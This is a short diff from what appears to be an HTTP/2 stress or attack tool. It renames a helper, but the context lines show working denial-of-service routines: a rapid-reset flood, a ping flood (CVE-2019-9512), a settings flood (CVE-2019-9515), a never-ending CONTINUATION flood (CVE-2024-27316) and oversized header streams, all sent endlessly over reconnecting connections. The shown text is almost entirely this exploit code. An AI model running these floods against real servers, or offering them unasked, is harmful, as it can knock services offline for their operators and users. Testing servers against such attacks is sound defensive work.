@@ -230,26 +230,26 @@ async def rapid_reset(scene: Scene, tally: Tally) -> None:
             for stream in streams
         )
 
-    await _flood(scene, tally, lambda: map(chunk, itertools.count(1, 200)), "resets sent", 100)
+    await flood(scene, tally, lambda: map(chunk, itertools.count(1, 200)), "resets sent", 100)
 
 
 async def ping_flood(scene: Scene, tally: Tally) -> None:
     """Send pings as fast as it goes, and read no answer (CVE-2019-9512)."""
     chunk = frame(PING, 0, 0, b"siege..!") * 500
-    await _flood(scene, tally, lambda: itertools.repeat(chunk), "pings sent", 500, reads=False)
+    await flood(scene, tally, lambda: itertools.repeat(chunk), "pings sent", 500, reads=False)
 
 
 async def settings_flood(scene: Scene, tally: Tally) -> None:
     """Send settings as fast as it goes, and read no answer (CVE-2019-9515)."""
     chunk = frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")) * 500
-    await _flood(scene, tally, lambda: itertools.repeat(chunk), "settings sent", 500, reads=False)
+    await flood(scene, tally, lambda: itertools.repeat(chunk), "settings sent", 500, reads=False)
 
 
 async def continuation_flood(scene: Scene, tally: Tally) -> None:
     """Send headers that never end (CVE-2024-27316)."""
     chunk = frame(CONTINUATION, 0, 1, wire.block([("x-siege", "y" * 1_000)]) * 15)
     first = frame(HEADERS, 0, 1, wire.block(wire.headers(VERIFY)))
-    await _flood(scene, tally, lambda: itertools.chain([first], itertools.repeat(chunk)), "frames sent", 1)
+    await flood(scene, tally, lambda: itertools.chain([first], itertools.repeat(chunk)), "frames sent", 1)
 
 
 async def huge_headers(scene: Scene, tally: Tally) -> None:
@@ -260,10 +260,10 @@ async def huge_headers(scene: Scene, tally: Tally) -> None:
         begun = frame(HEADERS, 0, stream, wire.block(wire.headers(VERIFY)))
         return begun + frame(CONTINUATION, 0, stream, lines) * 70 + frame(CONTINUATION, END_HEADERS, stream, b"")
 
-    await _flood(scene, tally, lambda: map(call, itertools.count(1, 2)), "calls sent", 1)
+    await flood(scene, tally, lambda: map(call, itertools.count(1, 2)), "calls sent", 1)
 
 
-async def _flood(
+async def flood(
     scene: Scene, tally: Tally, chunks: Callable[[], Iterator[bytes]], what: str, in_a_chunk: int, reads: bool = True
 ) -> None:
     """Send chunks over four connections, and open each again that ends: its chunks then begin again."""
